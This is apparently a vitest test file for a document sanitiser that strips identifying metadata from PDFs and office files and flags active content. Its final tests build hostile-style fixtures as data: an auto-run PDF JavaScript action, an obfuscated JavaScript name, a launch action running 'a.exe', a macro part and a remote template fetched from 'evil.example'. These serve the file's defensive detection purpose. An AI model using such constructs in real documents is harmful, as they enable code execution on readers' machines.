import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { unzipSync } from 'fflate';
import sharp from 'sharp';
import { afterAll, describe, expect, it } from 'vitest';
import { docx, firstOwn, pdf } from '../testing/documents.ts';
import { readOffice } from './office.ts';
import { readPdf } from './pdf.ts';
import { readDocument } from './read.ts';
import { writeDocument } from './write.ts';
import { Refusal } from '../refusal.ts';

const folder = mkdtempSync(join(tmpdir(), 'placard-writing-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const file = (name: string, bytes: Uint8Array) => {
  const path = join(folder, name);
  writeFileSync(path, bytes);
  return path;
};
const LABEL =
  '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">The timetable</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>';
/** A name that stands wherever programs leave names, and in no words of the document. */
const ANNA = 'Anna Example';

/** What a document is after it was written anew. */
async function written(name: string, bytes: Uint8Array): Promise<Buffer> {
  const made = await writeDocument(file(name, bytes), name.split('.')[1] ?? '', LABEL);
  try {
    return readFileSync(made.path);
  } finally {
    await made.release();
  }
}

const jpeg = () =>
  sharp({ create: { width: 24, height: 16, channels: 3, background: '#a6342b' } })
    .withExif({ IFD0: { Artist: ANNA }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 30/1 0/1' } })
    .jpeg()
    .toBuffer();

describe('a PDF that leaves', () => {
  it('says nothing of who made it, and all that its readers see', async () => {
    const picture = (await jpeg()).toString('latin1');
    const [info, xmp, note, image] = [0, 1, 2, 3].map((at) => `${firstOwn(2) + at} 0 R`);
    const packet = `<x pdfuaid:part="1">${ANNA}</x>`;
    const came = pdf(2, {
      language: 'nl',
      catalogue: `/Metadata ${xmp}`,
      trailer: `/Info ${info}`,
      page: `/Annots [${note}] /PieceInfo << /App << /Private (${ANNA}) >> >> /Thumb ${image}`,
      objects: [
        `<< /Author (${ANNA}) /Creator (Annas program) /Title (Draft) >>`,
        `<< /Type /Metadata /Subtype /XML /Length ${packet.length} >>\nstream\n${packet}\nendstream`,
        `<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /T (${ANNA}) /Contents (Look here) >>`,
        `<< /Type /XObject /Subtype /Image /Width 24 /Height 16 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode /Length ${picture.length} >>\nstream\n${picture}\nendstream`,
      ],
    });
    expect(came.toString('latin1').split(ANNA).length).toBeGreaterThan(4);
    const bytes = await written('names.pdf', came);
    const path = file('written.pdf', bytes);

    // Nothing is hidden in what is packed, either.
    const plain = join(folder, 'plain.pdf');
    execFileSync('qpdf', ['--qdf', '--object-streams=disable', path, plain]);
    const open = readFileSync(plain, 'latin1');
    expect(open).not.toContain(ANNA);
    expect(open).not.toContain('Annas program');
    expect(open).toContain('Look here');
    const said = execFileSync('exiftool', ['-G1', '-a', path], { encoding: 'utf8' });
    expect(said).toMatch(/XMP-dc\]\s+Title\s+: The timetable/);
    expect(said).not.toMatch(/Author|Producer|Creator {2}|GPS|Draft/);

    expect((await readPdf(path)).pages).toBe(2);
    expect(open).toContain('/Lang (nl)');
    expect(open).toContain('pdfuaid:part');
    const words = (of: string) => execFileSync('pdftotext', [of, '-'], { encoding: 'utf8' });
    const before = file('came.pdf', came);
    expect(words(path)).toBe(words(before));
    const drawn = (of: string) =>
      execFileSync('pdftoppm', ['-r', '40', '-png', '-f', '2', '-singlefile', of]);
    expect(drawn(path).equals(drawn(before))).toBe(true);
    // The same again is the same, so that nothing seems to have changed that has not.
    expect((await written('again.pdf', came)).equals(bytes)).toBe(true);
  });

  it('that is signed leaves as it came, and that is said', async () => {
    const signature = '<< /Type /Sig /ByteRange [0 1 2 3] >>';
    const came = pdf(1, { catalogue: `/AcroForm << /Fields [] /SigFlags 3 /V ${signature} >>` });
    expect((await written('signed.pdf', came)).equals(came)).toBe(true);
    const { facts } = await readDocument(file('s.pdf', came), 'pdf');
    expect(facts.note).toMatch(/signed: it leaves as it came/);
  });

  it('that is locked against its owner alone is written all the same', async () => {
    const locked = join(folder, 'locked.pdf');
    execFileSync('qpdf', ['--encrypt', '', 'owner', '256', '--', file('open.pdf', pdf(3)), locked]);
    const bytes = await written('unlocked.pdf', readFileSync(locked));
    const words = execFileSync('pdftotext', [file('u.pdf', bytes), '-'], { encoding: 'utf8' });
    expect(words).toMatch(/Page 1\s+Page 2\s+Page 3/);
  });

  it.each<[string, Buffer]>([
    ['nothing', Buffer.from('%PDF-1.7\n')],
    ['something else', Buffer.alloc(4000, 65)],
  ])('that is %s does not leave', async (_, bytes) => {
    await expect(written('broken.pdf', bytes)).rejects.toThrow(Refusal);
  });
});

describe('an office document that leaves', () => {
  it('says nothing of who wrote it and took its pictures, and all that its readers see', async () => {
    const picture = await jpeg();
    const came = docx({
      'docProps/core.xml': `<cp:coreProperties><dc:title>Night</dc:title><dc:creator>${ANNA}</dc:creator><dc:language>nl</dc:language></cp:coreProperties>`,
      'docProps/app.xml': `<Properties><Pages>3</Pages><Company>${ANNA}</Company></Properties>`,
      'word/comments.xml': `<w:comments><w:comment w:id="0" w:author="${ANNA}" w:initials="AE"><w:t>Look here</w:t></w:comment></w:comments>`,
      'word/media/image1.jpeg': picture,
    });
    const bytes = await written('names.docx', came);
    const parts = unzipSync(bytes);
    for (const [name, part] of Object.entries(parts))
      expect([name, Buffer.from(part).includes(ANNA)]).toEqual([name, false]);
    expect(Object.keys(parts).toSorted()).toEqual(Object.keys(unzipSync(came)).toSorted());
    expect(Buffer.from(parts['word/comments.xml'] ?? []).toString()).toContain('Look here');
    const left = Buffer.from(parts['word/media/image1.jpeg'] ?? []);
    expect((await sharp(left).metadata()).exif).toBeUndefined();
    expect((await sharp(left).raw().toBuffer()).equals(await sharp(picture).raw().toBuffer())).toBe(true);
    expect(await readOffice(file('w.docx', bytes))).toMatchObject({
      pages: 3,
      title: 'Night',
      language: 'nl',
    });
  });

  it('says first what it is, as OpenDocument wants it', async () => {
    const mimetype = 'application/vnd.oasis.opendocument.text';
    const meta = `<o><m><meta:initial-creator>${ANNA}</meta:initial-creator></m></o>`;
    const bytes = await written('names.odt', docx({ mimetype, 'meta.xml': meta }));
    expect(Buffer.from(unzipSync(bytes)['meta.xml'] ?? []).toString()).toBe('<o><m></m></o>');
    // Stored as it is, so that whoever looks at the bytes finds it.
    expect(bytes.includes(mimetype)).toBe(true);
  });
});

describe('what is in a document besides words and pictures is said as it comes in', () => {
  const script = (name: string) => pdf(1, { catalogue: `/OpenAction << /S ${name} /JS (1) >>` });
  it.each<[string, string, Buffer, RegExp]>([
    ['a script', 'pdf', script('/JavaScript'), /scripts/],
    ['a script whose name is written otherwise', 'pdf', script('/J#61vaScript'), /scripts/],
    [
      'a launch action',
      'pdf',
      pdf(1, { page: '/AA << /O << /S /Launch /F (a.exe) >> >>' }),
      /starts a program/,
    ],
    ['macros', 'docx', docx({ 'word/vbaProject.bin': 'x' }), /There are macros in it/],
    [
      'a template from elsewhere',
      'docx',
      docx({
        'word/_rels/settings.xml.rels':
          '<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
      }),
      /fetched from elsewhere/,
    ],
  ])('%s', async (_, extension, bytes, says) => {
    expect((await readDocument(file(`active.${extension}`, bytes), extension)).facts.note).toMatch(says);
  });

  it('and of what has nothing of the kind nothing', async () => {
    for (const [extension, bytes] of [
      ['pdf', pdf(1)],
      ['docx', docx()],
    ] as const)
      expect((await readDocument(file(`plain.${extension}`, bytes), extension)).facts.note).toBeUndefined();
  });
});
